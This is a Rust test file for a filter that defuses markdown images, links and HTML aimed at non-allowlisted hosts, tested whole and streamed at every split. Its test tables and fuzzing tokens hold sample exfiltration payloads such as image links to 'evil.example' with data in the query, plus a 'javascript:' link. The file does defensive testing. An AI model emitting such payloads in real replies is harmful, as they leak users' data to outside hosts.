//! The defusing rule as a table, and the streaming filter at every split.

use super::*;

fn policy() -> LinkPolicy {
    LinkPolicy::new(["docs.example.com", "*.acme.test", "Www.Svpg.Com."])
}

const EVIL_IMAGE: &str = "![x](https://evil.example/?d=acme)";

/// Replies with links and markup, and what the whole-text rule makes of them.
const TABLE: &[(&str, &str)] = &[
    (
        EVIL_IMAGE,
        "x (blocked image: `https://evil.example/?d=acme`)",
    ),
    (
        "See ![chart](https://evil.example/c.png \"t\") now",
        "See chart (blocked image: `https://evil.example/c.png`) now",
    ),
    (
        "![](//evil.example/p.png)",
        "(blocked image: `//evil.example/p.png`)",
    ),
    (
        "![logo](https://docs.example.com/logo.png)",
        "![logo](https://docs.example.com/logo.png)",
    ),
    (
        "![logo](https://cdn.acme.test/logo.png)",
        "![logo](https://cdn.acme.test/logo.png)",
    ),
    (
        "![logo](https://acme.test/l.png)",
        "logo (blocked image: `https://acme.test/l.png`)",
    ),
    ("![diagram](img/diagram.png)", "![diagram](img/diagram.png)"),
    (
        "[report](https://evil.example/?d=acme)",
        "report (blocked link: `https://evil.example/?d=acme`)",
    ),
    (
        "[**top** pick](https://evil.example/#acme)",
        "**top** pick (blocked link: `https://evil.example/#acme`)",
    ),
    (
        "[SVPG](https://www.svpg.com/?ref=x)",
        "[SVPG](https://www.svpg.com/?ref=x)",
    ),
    (
        "[Inspired](https://www.cagan.example/inspired/)",
        "[Inspired](https://www.cagan.example/inspired/)",
    ),
    (
        "[click](javascript:alert(1))",
        "click (blocked link: `javascript:alert(1)`)",
    ),
    ("[pricing](#pricing)", "[pricing](#pricing)"),
    (
        "![x][r]\n\n[r]: https://evil.example/?d=1\n",
        "x (blocked image: `https://evil.example/?d=1`)\n\n[r]: https://evil.example/?d=1\n",
    ),
    (
        "<https://evil.example/?d=1>",
        "`https://evil.example/?d=1` (blocked link)",
    ),
    ("<https://www.svpg.com/x>", "<https://www.svpg.com/x>"),
    (
        "Mail <ceo@acme.com>.",
        "Mail `mailto:ceo@acme.com` (blocked link).",
    ),
    (
        "a <img src=\"https://evil.example/?d=1\"> b",
        "a &lt;img src=\"https://evil.example/?d=1\"> b",
    ),
    (
        "<div>\n<img src=x>\n</div>\n",
        "&lt;div>\n&lt;img src=x>\n&lt;/div>\n",
    ),
    ("<b>bold</b>, a < b and [1]", "<b>bold</b>, a < b and [1]"),
    (
        "`![x](https://evil.example/?d=1)`",
        "`![x](https://evil.example/?d=1)`",
    ),
    (
        "```\n![x](https://evil.example/?d=1)\n<img src=x>\n```\n",
        "```\n![x](https://evil.example/?d=1)\n<img src=x>\n```\n",
    ),
    (
        "    ![x](https://evil.example/?d=1)\n",
        "    ![x](https://evil.example/?d=1)\n",
    ),
    (
        "Use `x`: ![i](https://evil.example/i.png)",
        "Use `x`: i (blocked image: `https://evil.example/i.png`)",
    ),
    (
        "[![badge](https://img.shields.io/b.svg)](https://github.com/acme/repo)",
        "[badge (blocked image: `https://img.shields.io/b.svg`)](https://github.com/acme/repo)",
    ),
    (
        "[![i](https://evil.example/i.png)](https://evil.example/?d=1)",
        "i (blocked image: `https://evil.example/i.png`) (blocked link: `https://evil.example/?d=1`)",
    ),
    (
        "[a [b](https://evil.example/?1) c](https://evil.example/?2)",
        "a b (blocked link: `https://evil.example/?1`) c (blocked link: `https://evil.example/?2`)",
    ),
    (
        "| a | ![x](https://evil.example/?d=1|2) |\n|---|---|\n",
        "| a | x (blocked image: `https://evil.example/?d=1%7C2`) |\n|---|---|\n",
    ),
];

#[test]
fn the_whole_text_rule() {
    let policy = policy();
    for (input, expected) in TABLE {
        assert_eq!(policy.defuse(input), *expected, "input: {input:?}");
        assert_eq!(
            policy.defuse(expected),
            *expected,
            "a fixpoint: {expected:?}"
        );
    }
}

#[test]
fn an_empty_allowlist_keeps_only_relative_and_plain_links() {
    let none = LinkPolicy::default();
    assert_eq!(
        none.defuse("![l](https://docs.example.com/l.png) [d](https://docs.example.com/a)"),
        "l (blocked image: `https://docs.example.com/l.png`) [d](https://docs.example.com/a)"
    );
    assert!(!none.allows("docs.example.com"));
    assert!(policy().allows("www.svpg.com"));
    assert!(policy().allows("a.b.acme.test"));
    assert!(!policy().allows("acme.test"));
    assert!(!policy().allows("evilacme.test"));
}

/// `text` through the stream filter in pieces cut at `cuts` (byte offsets),
/// checking after each piece that what was sent so far shows nothing live.
fn streamed(text: &str, cuts: &[usize]) -> String {
    let policy = policy();
    let mut filter = policy.stream();
    let mut sent = String::new();
    let mut from = 0;
    for &cut in cuts.iter().chain(std::iter::once(&text.len())) {
        sent.push_str(&filter.push(&text[from..cut]));
        from = cut;
        assert_eq!(policy.defuse(&sent), sent, "live after {cut} of {text:?}");
    }
    sent.push_str(&filter.finish());
    assert_eq!(policy.defuse(&sent), sent, "live at the end of {text:?}");
    sent
}

fn boundaries(text: &str) -> Vec<usize> {
    (1..text.len())
        .filter(|&i| text.is_char_boundary(i))
        .collect()
}

const PROSE: &[&str] = &[
    "See ![x](https://evil.example/?d=acme) and [SVPG](https://www.svpg.com/the-product-model/) now.",
    "Read [the report](https://evil.example/r?id=42#top), then <https://evil.example/?d=1>.",
    "a < b, <b>bold</b> and <img src=\"https://evil.example/?d=1\"> — done ✓",
    "[![badge](https://img.shields.io/b.svg)](https://github.com/acme/repo)",
    "Options: [1] cheap, [2] fast; ![ok](img/ok.png) ![](https://docs.example.com/a.png)!",
    "\\[not\\] a link, \\![nor](this)",
];

#[test]
fn streamed_prose_adds_up_to_the_defused_reply_at_every_split() {
    let policy = policy();
    for text in PROSE {
        let whole = policy.defuse(text);
        assert_eq!(streamed(text, &[]), whole, "one piece");
        assert_eq!(streamed(text, &boundaries(text)), whole, "char by char");
        for cut in boundaries(text) {
            assert_eq!(streamed(text, &[cut]), whole, "cut at {cut}: {text:?}");
        }
    }
}

/// Text where the context-free filter errs on the safe side: it may escape
/// or defuse what the whole-text rule keeps (in code, reference links), but
/// never sends anything live.
const TRICKY: &[&str] = &[
    "```\n![x](https://evil.example/?d=1)\n```\n",
    "`[a](https://evil.example/?d)` and [b `]` c](https://evil.example/?d=2)",
    "[r]: https://evil.example/?d=1\n\n[click][r] or [click]",
    "[a](https://evil.example/?d \"x)y\") <a title=\"x>y\" href=\"https://evil.example\">z</a>",
    "unclosed [bracket\n\nnext ![i](https://evil.example/i.png",
    "- [ ] task\n- [x] done <y",
    "[a [b](https://evil.example/?1) c](https://evil.example/?2)",
    // Found by the random test below, each once sent live by an earlier filter.
    "<!https://evil.example/?d=1",
    "<div><    ",
    "<div>\\<img src=\"https://evil.example/?d=1\">",
    "<div><https://docs.example.com/x> ",
    "![((<!--]()-->",
    "[a <img src=https://evil.example/?d ](u) >",
    "[[[<!--](https://evil.example/i.png[r]: )",
    "[a [b](https://evil.example/?d \"x)\") c] d",
    "<div>:<div>=</div>#<",
];

#[test]
fn tricky_text_is_never_live_at_any_split() {
    for text in TRICKY {
        for cut in boundaries(text) {
            streamed(text, &[cut]);
        }
        streamed(text, &boundaries(text));
    }
}

#[test]
fn a_link_held_past_the_limit_is_escaped() {
    let long = format!("[x](https://evil.example/?d={}", "a".repeat(9000));
    let policy = policy();
    let mut filter = policy.stream();
    let sent = filter.push(&long);
    assert!(sent.starts_with("\\[x]("), "{}", &sent[..20]);
    let rest = filter.push(")");
    assert_eq!(rest, ")");
}

mod random {
    use super::*;
    use proptest::prelude::*;

    const TOKENS: &[&str] = &[
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "\\",
        "\n",
        " ",
        "a",
        ":",
        "\"",
        "*",
        "https://evil.example/?d=1",
        "https://docs.example.com/x",
        "img/x.png",
        "img src=",
        "b",
        "- ",
        "```",
        "    ",
        "\n\n",
        "<b>",
        "<div>",
        "</div>",
        "|",
        "~~~",
        "[r]: ",
        "&lt;",
        "\"t\"",
        "https://evil.example/i.png",
        "<https://evil.example/?d>",
        "x@evil.example",
        "> ",
        "#",
        "'",
        "=",
        "\t",
        "\r\n",
        "&#60;",
        "<!--",
        "-->",
        "<img",
        " src=",
        "<a href=",
        "<style>",
        "<script>",
        "_",
        "~~",
        "[^1]",
        "![",
        "](",
        "<?",
        "<![CDATA[",
        "`` ",
        "1.",
        "é",
    ];

    fn soup() -> impl Strategy<Value = (String, Vec<usize>)> {
        (
            proptest::collection::vec(0..TOKENS.len(), 0..80),
            proptest::collection::vec(any::<prop::sample::Index>(), 0..6),
        )
            .prop_map(|(picks, cuts)| {
                let text: String = picks.iter().map(|&i| TOKENS[i]).collect();
                let mut cuts: Vec<usize> = cuts
                    .iter()
                    .map(|c| c.index(text.len() + 1))
                    .filter(|&c| text.is_char_boundary(c))
                    .collect();
                cuts.sort_unstable();
                (text, cuts)
            })
    }

    proptest! {
        #[test]
        fn defusing_is_idempotent_and_streaming_never_sends_anything_live((text, cuts) in soup()) {
            let policy = policy();
            let once = policy.defuse(&text);
            prop_assert_eq!(policy.defuse(&once), once.clone());
            streamed(&text, &cuts);
        }
    }
}
